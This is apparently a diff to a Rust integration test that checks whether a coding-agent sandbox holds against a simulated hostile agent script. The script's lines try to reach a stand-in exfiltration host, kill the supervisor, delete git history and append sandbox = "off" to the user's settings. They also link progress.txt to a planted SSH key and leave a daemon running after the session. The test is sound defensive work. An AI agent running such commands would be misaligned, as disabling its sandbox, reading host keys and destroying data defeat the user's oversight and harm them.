@@ -83,9 +83,15 @@ echo "attempt net direct: $(curl -s --noproxy '*' --max-time 3 http://127.0.0.1:
 echo "attempt net proxy: $(curl -s --noproxy '' --max-time 3 -x http://127.0.0.1:3128 http://127.0.0.1:{port}/ 2>&1)"
 echo "attempt net name: $(curl -s --max-time 3 http://exfiltrate.example/ 2>&1)"
 echo "attempt kill: $(kill -KILL "$RALPH_VICTIM_PID" 2>&1 && echo KILL-SUCCEEDED)"
+echo "attempt history: $(find .git/objects -type f ! -path '*/info/*' -delete 2>&1 && echo wrote)"
+echo "attempt alternates: $(echo /tmp > .git/objects/info/alternates 2>&1 && echo wrote)"
+echo "attempt config: $(echo 'sandbox = "off"' >> ralph.toml 2>&1 && echo wrote)"
+ln -sf "$RALPH_TEST_HOST_KEY" progress.txt
+echo "attempt link: $(readlink progress.txt)"
 setsid nohup sleep 300 >/dev/null 2>&1 &
 echo "attempt daemon: left"
 echo done > done.txt
+echo "attempt commit: $(git add done.txt && git -c user.name=agent -c user.email=agent@example.com commit -qm 'agent: done.txt' 2>&1 && echo committed)"
 python3 - <<'PY'
 import json
 p = json.load(open("prd.json"))
@@ -111,6 +117,12 @@ fn hostile_run(mode: &str) {
         .expect("git init --bare");
     assert!(init.success());
     env.git(&["remote", "add", "origin", &bare.display().to_string()]);
+    // The user's settings, which the agent may not change (an agent that could write
+    // `sandbox = "off"` there would run unconfined from the next run on).
+    env.write("ralph.toml", "# the user's settings\n");
+    env.git(&["add", "ralph.toml"]);
+    env.git(&["commit", "-qm", "settings"]);
+    let commits_before = env.git(&["rev-list", "--count", "HEAD"]);
     let (port, hits) = loopback_server();
     let agent = env.root.path().join("hostile.sh");
     std::fs::write(&agent, hostile_script(port)).expect("agent");
@@ -128,6 +140,12 @@ fn hostile_run(mode: &str) {
         .env_clear()
         .envs(env.envs())
         .env("RALPH_GIT_TOKEN", "push-token-never-inside")
+        // The host path of the planted key: a link to it at progress.txt must not make ralph,
+        // outside the sandbox, read it into a prompt or append to it.
+        .env(
+            "RALPH_TEST_HOST_KEY",
+            env.home.join(".ssh/id_ed25519").display().to_string(),
+        )
         .output()
         .expect("run ralph");
     let all = text(&out);
@@ -145,7 +163,16 @@ fn hostile_run(mode: &str) {
         Some(0),
         "ralph survived and finished: {all}"
     );
-    for attempt in ["home", "etc", "ledger", "state", "hook"] {
+    for attempt in [
+        "home",
+        "etc",
+        "ledger",
+        "state",
+        "hook",
+        "history",
+        "alternates",
+        "config",
+    ] {
         let shown = all
             .lines()
             .find(|l| l.contains(&format!("attempt {attempt}:")))
@@ -161,6 +188,35 @@ fn hostile_run(mode: &str) {
     );
     assert!(!Path::new("/etc/ralph-sandbox-test-x").exists(), "{all}");
     assert!(!env.path(".git/hooks/post-commit").exists(), "{all}");
+    // The history is whole: every commit from before the run, the agent's own commit (its
+    // objects moved into the history) and ralph's checkpoint, and git finds no fault.
+    assert!(all.contains("attempt commit: committed"), "{all}");
+    let fsck = std::process::Command::new("git")
+        .args(["fsck", "--no-dangling"])
+        .current_dir(&env.repo)
+        .output()
+        .expect("git fsck");
+    assert!(fsck.status.success(), "git fsck: {}", text(&fsck));
+    let commits_after = env.git(&["rev-list", "--count", "HEAD"]);
+    let (before, after): (u32, u32) = (
+        commits_before.trim().parse().expect("count"),
+        commits_after.trim().parse().expect("count"),
+    );
+    assert!(after >= before + 2, "{before} → {after} commits: {all}");
+    assert!(env.git(&["log", "--format=%s"]).contains("agent: done.txt"));
+    assert_eq!(env.read("ralph.toml"), "# the user's settings\n");
+    // ralph did not follow the agent's link at progress.txt, nor write through it.
+    assert_eq!(
+        std::fs::read_to_string(env.home.join(".ssh/id_ed25519")).expect("key"),
+        format!("{FAKE_KEY}\n")
+    );
+    assert!(
+        !std::fs::symlink_metadata(env.path("progress.txt"))
+            .expect("progress.txt")
+            .file_type()
+            .is_symlink(),
+        "{all}"
+    );
     assert!(
         !all.contains("PUSH-SUCCEEDED") && !all.contains("KILL-SUCCEEDED"),
         "{all}"
